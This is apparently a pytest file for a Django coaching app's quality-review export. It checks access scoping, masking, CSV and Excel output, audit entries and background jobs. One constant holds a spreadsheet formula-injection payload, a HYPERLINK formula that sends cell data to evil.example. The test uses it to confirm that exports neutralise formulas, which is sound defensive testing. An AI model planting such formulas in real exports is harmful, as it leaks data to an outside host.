"""Everything of quality goes out to who may read it, and to nobody else; whoever is in a file can learn of it."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from coaching.interactions.models import Message
from coaching.quality import services
from coaching.quality.disputes.services import PointInput, raise_dispute
from coaching.quality.exchange import files, jobs
from coaching.quality.exchange.exports.documentation import markdown
from coaching.quality.exchange.exports.tables import Column, Table, _tables, all_tables, register
from coaching.quality.exchange.models import QualityExport
from coaching.quality.exchange.services import sweep_files
from coaching.quality.models import Criterion, Quote, Rating, Review, ReviewDraw
from people import services as people
from people.models import AuditEntry, Membership
from tests.conftest import ROOT
from tests.factories.quality import make_draft, make_draw, make_published

ALL = [table.key for table in all_tables()]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.fixture(autouse=True)
def _now(time_machine, settings, tmp_path, now):
    time_machine.move_to(now, tick=False)
    settings.IMPORT_ROOT = tmp_path


@pytest.fixture
def reviews(cast, now):
    """Rita: published with a quote, acknowledged and disputed; withdrawn; drafted. Otto: published. A draw waits for Rita."""
    rita = make_published(cast.vera, cast.rita, number=1, now=now, warm_greeting=0)
    Review.objects.filter(pk=rita.pk).update(comment=FORMULA)
    rating = Rating.objects.get(review=rita, criterion__key="warm-greeting")
    message = Message.objects.filter(interaction=rita.interaction).first()
    Quote.objects.create(rating=rating, message=message, excerpt="nine days")
    services.acknowledge_review(actor=cast.rita, review=rita, comment="Read.", now=now)
    raise_dispute(
        actor=cast.rita, review=rita, points=[PointInput(criterion_id=rating.criterion_id, reason="I greeted.")], now=now
    )
    withdrawn = make_published(cast.vera, cast.rita, number=2, now=now)
    services.withdraw_review(actor=cast.vera, review=withdrawn, reason="Wrong case.", now=now)
    draft = make_draft(cast.vera, cast.rita, number=3, now=now)
    services.save_draft(actor=cast.vera, review=draft, ratings=[], comment="secret draft", now=now)
    otto = make_published(cast.viktor, cast.otto, number=4, now=now)
    return {
        "rita": rita,
        "withdrawn": withdrawn,
        "draft": draft,
        "otto": otto,
        "draw": make_draw(cast.vera, cast.rita, number=5, now=now),
    }


def ask(client, who, now, kind="json", tables=ALL, **more):
    client.force_login(who, backend="allauth.account.auth_backends.AuthenticationBackend")
    day = now.date().isoformat()
    return client.post(reverse("quality_export"), {"since": day, "until": day, "tables": tables, "format": kind} | more)


def content(response):
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


def tables_for(client, who, now, **more):
    return json.loads(content(ask(client, who, now, **more)))["tables"]


def test_each_gets_what_they_may_read_and_no_draft_leaves(client, cast, reviews, now):
    mine = {reviews["rita"].pk, reviews["withdrawn"].pk}
    everything = mine | {reviews["otto"].pk}
    # Of what waits to be reviewed a rep learns nothing; a lead and its reviewer do.
    expected = (
        (cast.rita, mine, False),
        (cast.lena, mine, True),
        (cast.hana, everything, True),
        (cast.vera, mine, True),
        (cast.viktor, everything - mine, False),
        (cast.lars, everything - mine, False),
        (cast.ravi, set(), False),
    )
    for person, wanted, knows in expected:
        found = tables_for(client, person, now, tables=["reviews", "ratings", "draws"])
        assert {row["review"] for row in found["reviews"]} == wanted, person
        assert {row["review"] for row in found["ratings"]} == wanted, person
        assert "secret draft" not in json.dumps(found), person
        draws = {row["draw"] for row in found["draws"]}
        assert (reviews["draw"].pk in draws) is knows, person
        assert (reviews["draft"].draw_id in draws) is knows, person
    # An administrator or editor has nothing to export.
    for person in (cast.adam, cast.edda):
        assert ask(client, person, now).status_code == 403


def test_the_rows_say_it_all(client, cast, reviews, now):
    found = tables_for(client, cast.hana, now)
    row = next(row for row in found["reviews"] if row["review"] == reviews["rita"].pk)
    assert (row["person"], row["reviewer"], row["method"], row["state"]) == (
        "rita@example.com",
        "vera@example.com",
        "random",
        "published",
    )
    assert row["published_at"] == now.isoformat()
    assert row["score"] == Review.objects.get(pk=row["review"]).score_shown
    rating = next(r for r in found["ratings"] if r["review"] == row["review"] and r["criterion"] == "warm-greeting")
    assert (rating["value"], rating["failed"], rating["quotes"]) == (0, True, ["nine days"])
    # A quote kept before masking was there leaves as the pages show it.
    quote = Quote.objects.get(rating__review=row["review"])
    Message.objects.filter(pk=quote.message_id).update(body="Late for nine days. Call kim@example.com.")
    Quote.objects.filter(pk=quote.pk).update(excerpt="Call kim@example.com")
    again = tables_for(client, cast.hana, now, tables=["ratings"])["ratings"]
    assert [r["quotes"] for r in again if r["quotes"]] == [["Call •••@•••••••.•••"]]
    assert [a["comment"] for a in found["acknowledgements"]] == ["Read."]
    assert (found["disputes"][0]["state"], found["disputed_answers"][0]["reason"]) == ("open", "I greeted.")
    assert len(found["scorecards"]) == Criterion.objects.count()
    # Narrowed to a person, to a team, to other days.
    one = tables_for(client, cast.hana, now, person=cast.otto.pk)
    assert {r["person"] for r in one["reviews"]} == {"otto@example.com"}
    assert one["disputes"] == []
    team = tables_for(client, cast.hana, now, team=cast.harbour.pk)
    assert {r["person"] for r in team["reviews"]} == {"rita@example.com"}
    # A bonus that was not earned is nothing that failed, there as on the review's page.
    Criterion.objects.filter(key="warm-greeting").update(is_bonus=True)
    ratings = tables_for(client, cast.hana, now)["ratings"]
    rating = next(r for r in ratings if r["review"] == row["review"] and r["criterion"] == "warm-greeting")
    assert (rating["value"], rating["failed"]) == (0, False)
    later = (now + timedelta(days=1)).date().isoformat()
    assert tables_for(client, cast.hana, now, since=later, until=later)["reviews"] == []
    assert "Select a valid choice" in ask(client, cast.lena, now, person=cast.otto.pk).content.decode()
    assert "The last day lies before" in ask(client, cast.hana, now, since=later).content.decode()
    assert "Choose at least one table" in ask(client, cast.hana, now, tables=[]).content.decode()


def test_csv_and_excel_hold_the_same_and_no_formula(client, cast, reviews, now):
    archive = zipfile.ZipFile(io.BytesIO(content(ask(client, cast.hana, now, "csv"))))
    assert archive.namelist() == [*(f"{key}.csv" for key in ALL), "columns.csv"]
    book = load_workbook(io.BytesIO(content(ask(client, cast.hana, now, "xlsx"))))
    assert book.sheetnames == [*ALL, "columns"]
    for table in all_tables():
        rows = list(csv.reader(io.TextIOWrapper(archive.open(f"{table.key}.csv"), "utf-8-sig", newline="")))
        sheet = [["" if cell is None else cell for cell in row] for row in book[table.key].iter_rows(values_only=True)]
        assert rows[0] == sheet[0] == [column.key for column in table.columns]
        assert len(rows) == len(sheet)
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
        assert not [cell for row in book[table.key].iter_rows() for cell in row if cell.data_type == "f"]
    reviewed = list(csv.DictReader(io.TextIOWrapper(archive.open("reviews.csv"), "utf-8-sig", newline="")))
    assert reviewed[0]["comment"] == f"'{FORMULA}"
    assert reviewed[0]["published_at"] == "2026-06-15 11:00:00" or reviewed[0]["published_at"].startswith("2026-06-15 ")


def test_who_is_in_a_file_can_learn_who_took_it(client, cast, reviews, now):
    content(ask(client, cast.lena, now))
    read = AuditEntry.objects.get(verb="read.export", actor=cast.lena)
    assert read.subject == cast.rita
    made = AuditEntry.objects.get(verb="export.create")
    assert (made.actor, made.after["people"], made.after["tables"]) == (cast.lena, 1, ALL)
    assert AuditEntry.objects.filter(verb="read.download", actor=cast.lena).count() == 1
    content(ask(client, cast.rita, now))
    assert not AuditEntry.objects.filter(verb="read.export", actor=cast.rita).exists()  # one's own


def test_a_large_one_is_written_by_a_worker_for_who_asked(
    client, cast, reviews, now, monkeypatch, django_capture_on_commit_callbacks, time_machine
):
    monkeypatch.setattr("coaching.quality.exchange.services.SMALL_ROWS", 0)
    answer = ask(client, cast.lena, now)
    export = QualityExport.objects.get()
    assert answer["Location"] == reverse("quality_export_detail", args=[export.pk])
    assert "Writing the file" in client.get(answer["Location"]).content.decode()
    assert client.get(reverse("quality_export_download", args=[export.pk])).status_code == 403
    assert "still being written" in ask(client, cast.lena, now).content.decode()
    jobs.run_quality_export(pk=export.pk, clock=lambda: now)
    jobs.run_quality_export(pk=export.pk, clock=lambda: now)  # a second worker finds nothing to do
    page = client.get(answer["Location"]).content.decode()
    assert "The file is ready" in page
    url = reverse("quality_export_download", args=[export.pk])
    assert json.loads(content(client.get(url)))["format"] == "uncommon-quality"
    # Nobody else's, whatever their role; and not hers any more once the team is not.
    for person in (cast.hana, cast.adam, cast.vera):
        client.force_login(person, backend="allauth.account.auth_backends.AuthenticationBackend")
        assert client.get(url).status_code == 404
    client.force_login(cast.lena, backend="allauth.account.auth_backends.AuthenticationBackend")
    Membership.objects.filter(person=cast.rita).delete()
    people.join_team(actor=None, person=cast.rita, team=cast.meadow, kind=Membership.Kind.MEMBER, starts_on=now.date(), now=now)
    refused = client.get(url)
    assert refused.status_code == 403
    assert "no longer yours to read" in refused.content.decode()
    # After a day the file is gone.
    path = files.path_of(export)
    assert path.exists()
    time_machine.move_to(now + timedelta(days=1, minutes=1), tick=False)
    assert sweep_files(now + timedelta(days=1, minutes=1)) == 1
    assert not path.exists()
    assert client.get(url).status_code == 403


def test_an_export_of_a_team_that_is_gone_is_not_one_of_everybody(cast, reviews, now):
    export = QualityExport(created_by=cast.hana, format="json", tables=ALL, since=now.date(), until=now.date(), scope="Gone")
    scope = jobs.scope_of(export, now.date())
    assert not scope.people.exists()
    assert all_tables()[0].source(scope).count() == 0


def test_another_part_adds_its_table_with_a_few_lines(client, cast, reviews, now):
    register(
        Table(
            "planted", "Planted", "One row for each draw.", lambda scope: ReviewDraw.objects.order_by("pk"),
            (Column("id", "Number", lambda draw: draw.pk),),
        )
    )  # fmt: skip
    try:
        assert len(tables_for(client, cast.hana, now, tables=["planted"])["planted"]) == ReviewDraw.objects.count()
        assert "Planted" in client.get(reverse("quality_export")).content.decode()
        with pytest.raises(ValueError, match="planted"):
            register(_tables["planted"])
    finally:
        del _tables["planted"]


def test_the_documentation_says_what_the_export_writes():
    page = (ROOT / "docs/guides/quality-export.md").read_text(encoding="utf-8")
    assert page == markdown(), "write it anew: ./uncommon manage describe_quality_export > docs/guides/quality-export.md"
    out = io.StringIO()
    call_command("describe_quality_export", stdout=out)
    assert out.getvalue() == page
